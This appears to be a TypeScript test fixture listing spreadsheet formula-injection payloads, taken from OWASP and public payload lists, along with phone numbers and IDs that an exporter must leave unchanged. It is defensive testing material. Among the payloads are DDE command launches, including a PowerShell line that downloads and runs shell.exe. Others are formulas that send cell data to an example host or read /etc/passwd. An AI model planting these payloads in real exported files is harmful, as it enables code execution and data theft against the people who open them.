// Texts that a spreadsheet program may run when it opens an exported file, as published for testers: OWASP's page on CSV
// injection, the lists of PayloadsAllTheThings and payloadbox, and the functions that fetch an address in Excel, LibreOffice
// and Google Sheets. Addresses are of example domains, so that nothing is reached where one runs after all.

const starts = [
  '=1+2',
  '+1+2',
  '-1+2',
  '@SUM(1+2)',
  '=(1+2)',
  '+SUM(1,2)',
  '-SUM(1,2)',
  '==1+2',
  '=+1',
  '+-1',
]
const fullWidth = ['＝1+2', '＋1+2', '－1+2', '＠SUM(1+2)']
const blanksBefore = [
  '\t=1+2',
  '\r=1+2',
  '\n=1+2',
  ' =1+2',
  '   @SUM(1+2)',
  '\u00A0=1+2',
  '\u3000=1+2',
  '\uFEFF=1+2',
  '\t\t+1+2',
]
const quotesBefore = ['"=1+2', '"=1+2"', "'=1+2", "''=1+2", '""=1+2', '" =1+2']
const cellsOfTheirOwn = [
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
  'x,=1+2',
  'x;=1+2',
  'x\t=1+2',
  'x|=1+2',
  'x",=1+2,"y',
  "x';=1+2;'y",
  'x"\n=1+2\n"y',
  'x\n@SUM(1+2)',
  'Mill Lane 3; -1+2',
]
const dynamicDataExchange = [
  'DDE ("cmd";"/C calc";"!A0")A0',
  '=DDE("cmd";"/C calc";"!A0")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "=cmd|' /C calc'!'A1'",
  "=cmd|'/C powershell IEX(wget files.example/shell.exe)'!A0",
  '=AAAA+BBBB-CCCC&"Hello"/12345&cmd|\'/c calc.exe\'!A',
  "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A",
  "=         cmd|'/c calc.exe'!A",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  "=rundll321234567890abcdefghijklmnopqrstuvwxyz|'URL.dll,OpenURL calc.exe'!A",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
]
const addresses = [
  '=HYPERLINK("http://collect.example/?leak="&A1&A2,"Error: please click")',
  '=HYPERLINK("file:///etc/passwd","Open")',
  '=WEBSERVICE("http://collect.example/?leak="&A1)',
  '=FILTERXML(WEBSERVICE("http://collect.example"),"//a")',
  '=IMPORTXML("http://collect.example/csv", "//a/@href")',
  '=IMPORTXML(CONCAT("http://collect.example?v=", CONCATENATE(A2:E2)), "//a/a10")',
  '=IMPORTFEED(CONCAT("http://collect.example?v=", CONCATENATE(A2:E2)))',
  '=IMPORTHTML(CONCAT("http://collect.example?v=", CONCATENATE(A2:E2)),"table",1)',
  '=IMPORTRANGE("https://sheets.example/key", "Sheet1!A2:E2")',
  '=IMPORTDATA("http://collect.example/data.csv")',
  '=IMAGE("https://collect.example/pixel.gif?v="&A1)',
  "='file:///etc/passwd'#$passwd.A1",
  '=INDIRECT("A1")',
  '=CALL("kernel32","WinExec","JCJ","calc.exe",0)',
]

export const formulaPayloads: readonly string[] = [
  ...starts,
  ...fullWidth,
  ...blanksBefore,
  ...quotesBefore,
  ...cellsOfTheirOwn,
  ...dynamicDataExchange,
  ...addresses,
]

/** What must stay as it is: telephone numbers, and identifiers that a program would round or shorten as numbers. */
export const exactTexts: readonly string[] = [
  '+49 170 1234567',
  '00491701234567',
  '+442079460123',
  '0170/1234567',
  '(020) 7946-0123',
  '000123',
  '0',
  '12345678901234567890',
  '00000000000000000042',
  '98765432109876543210',
  '1e5',
  '1/2/2026',
  '-5',
  'TRUE',
]
